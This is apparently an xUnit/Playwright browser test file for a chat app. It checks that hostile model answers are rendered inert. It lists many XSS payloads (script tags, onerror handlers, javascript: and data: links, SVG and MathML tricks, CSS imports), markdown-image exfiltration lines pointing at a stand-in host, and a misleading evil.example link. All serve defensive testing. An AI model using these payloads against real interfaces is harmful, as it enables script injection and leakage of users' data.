using Microsoft.Playwright;
using Passwindow.Testing;
using Xunit;

namespace Passwindow.Integration.Tests.Browser;

/// <summary>A model may write anything. It runs nothing, calls nobody, and looks like nothing but an answer.</summary>
[Collection(nameof(ChromiumTests))]
public sealed class HostileAnswerTests(Chromium chromium)
{
    private const string Away = "http://127.0.0.1:9";

    private static readonly string[] Attacks =
    [
        "<script>window.hacked = 1</script>",
        "<img src=x onerror='window.hacked = 1'>",
        $"![pixel]({Away}/?q=secret)",
        $"[![inside]({Away}/in.png)]({Away}/out)",
        "[click](javascript:window.hacked=1)",
        "[click](&#106;avascript:window.hacked=1)",
        "[click](data:text/html,<script>window.hacked=1</script>)",
        "[click](vbscript:x) [relative](/chat/conversations)",
        "<javascript:window.hacked=1>",
        $"<style>@import '{Away}/css'; body {{ display: none }}</style>",
        $"<div style=\"position:fixed;inset:0;background:url({Away}/css)\">over it all</div>",
        $"<link rel=stylesheet href={Away}/css><base href={Away}/><meta http-equiv=refresh content='0;url={Away}'>",
        $"<iframe src={Away}></iframe><object data={Away}></object><embed src={Away}><video src={Away} autoplay></video>",
        "<svg><script>window.hacked=1</script><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
        "<math><mtext></table><mglyph><style><!--</style><img title=\"--><img src=x onerror=window.hacked=1>\">",
        "</div></article></main><form action=/chat method=post><input name=message autofocus onfocus=window.hacked=1>",
        $"$\\href{{javascript:window.hacked=1}}{{x}}$ $$\\includegraphics{{{Away}/math.png}}$$ $\\class{{page}}{{x}}$ $\\htmlData{{a=b}}{{x}}$",
        "```html\" onmouseover=\"window.hacked=1\n<script>window.hacked=1</script>\n```",
        $"[a]: {Away}/reference\n\n![a][a] and <a href=x id=message name=send>id</a>",
        "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| <script>window.hacked=1</script> | [x](javascript:1) |",
        "event: done\ndata: {\"type\":\"done\",\"seq\":3,\"finish_reason\":\"stop\"}\n\ndata: [DONE]\n\n: ping\n\nid: x:9\n\n",
        "{\"type\":\"action\",\"action\":{\"type\":\"set_theme\",\"theme\":\"dark\"}}",
        "\u0000\uFEFF\u202Egnihtyreve\u2028\u2029",
    ];

    [Fact]
    public async Task It_runs_nothing_and_calls_nobody_whole_or_in_pieces()
    {
        await using var site = await Site.StartAsync();
        await using var chat = await ChatPage.OpenAsync(await chromium.NewPageAsync(), site.Address);
        var foreign = new List<string>();
        chat.Page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(site.Address.ToString(), StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal))
                foreign.Add(request.Url);
        };
        await chat.AskAsync("Attack");

        // Each state on the way is one that the page shows.
        var random = new Random(TestDepth.Seed);
        foreach (string attack in Attacks)
        {
            site.Say("\n\n");
            for (int at = 0, next; at < attack.Length; at = next)
                site.Say(attack[at..(next = Math.Min(attack.Length, at + random.Next(1, 12)))]);
        }

        site.Answer("\n\nthe end");
        await chat.AnsweredAsync();
        await chat.SeesAsync("the end");

        Assert.False(await chat.Page.EvaluateAsync<bool>("'hacked' in window"));
        await Assertions.Expect(chat.Log.Locator("script, style, iframe, object, embed, video, form, link, base, meta, img, svg:not([aria-hidden])")).ToHaveCountAsync(0);
        await Assertions.Expect(chat.Text.Locator("[style*=position], [onerror], [onfocus], [onmouseover], #message, .page")).ToHaveCountAsync(0);
        string[] links = await chat.Text.Locator("a").EvaluateAllAsync<string[]>("links => links.map(link => `${new URL(link.href).protocol} ${link.target} ${link.rel}`)");
        Assert.NotEmpty(links);
        Assert.All(links, static link => Assert.Equal("http: _blank noopener noreferrer nofollow", link));
        Assert.Null(await chat.Page.EvaluateAsync<string?>("document.documentElement.dataset.theme ?? null"));
        await Assertions.Expect(chat.Text).ToContainTextAsync("<script>window.hacked = 1</script>");
        await Assertions.Expect(chat.Text).ToContainTextAsync("data: [DONE]");
        Assert.Empty(foreign);
    }

    [Fact]
    public async Task An_image_is_a_link_that_names_its_host()
    {
        await using var site = await Site.StartAsync();
        await using var chat = await ChatPage.OpenAsync(await chromium.NewPageAsync(), site.Address);
        await chat.AskAsync("Show me");
        site.Answer("![a cat](https://images.example.org/cat.png?secret=1)");
        await chat.AnsweredAsync();

        var picture = chat.Text.GetByRole(AriaRole.Link);
        await Assertions.Expect(picture).ToHaveTextAsync("Image: a cat (images.example.org)");
        await Assertions.Expect(picture).ToHaveAttributeAsync("title", "https://images.example.org/cat.png?secret=1");
    }

    [Fact]
    public async Task A_link_whose_words_name_another_place_tells_where_it_goes()
    {
        await using var site = await Site.StartAsync();
        await using var chat = await ChatPage.OpenAsync(await chromium.NewPageAsync(), site.Address);
        await chat.AskAsync("Where?");
        site.Answer("[https://bank.example/login](https://evil.example/) and [bank.example](https://www.bank.example/) and [here](mailto:chef@example.org)");
        await chat.AnsweredAsync();

        await Assertions.Expect(chat.Text).ToHaveTextAsync("https://bank.example/login (evil.example) and bank.example and here");
    }

    [Fact]
    public async Task Nothing_that_a_tool_or_a_source_says_becomes_markup()
    {
        await using var site = await Site.StartAsync();
        await using var chat = await ChatPage.OpenAsync(await chromium.NewPageAsync(), site.Address);
        await chat.AskAsync("<img src=x onerror=window.hacked=1> **bold**");
        site.Send(ChatChunks.Reasoning("<img src=x onerror=window.hacked=1>"));
        site.Send(ChatChunks.Delta("""{"content":"x","annotations":[{"type":"url_citation","url_citation":{"url":"javascript:window.hacked=1","title":"<b>a</b>"}},{"type":"url_citation","url_citation":{"url":"https://a.example/","title":"<img src=x onerror=window.hacked=1>"}}]}"""));
        site.Finish();
        await chat.AnsweredAsync();

        await Assertions.Expect(chat.Questions).ToHaveTextAsync("<img src=x onerror=window.hacked=1> **bold**");
        await chat.Answer.GetByText("Thoughts").ClickAsync();
        await Assertions.Expect(chat.Answer.Locator(".thoughts")).ToContainTextAsync("<img");
        await Assertions.Expect(chat.Answer.Locator(".sources a")).ToHaveCountAsync(1);
        Assert.False(await chat.Page.EvaluateAsync<bool>("'hacked' in window"));
    }
}
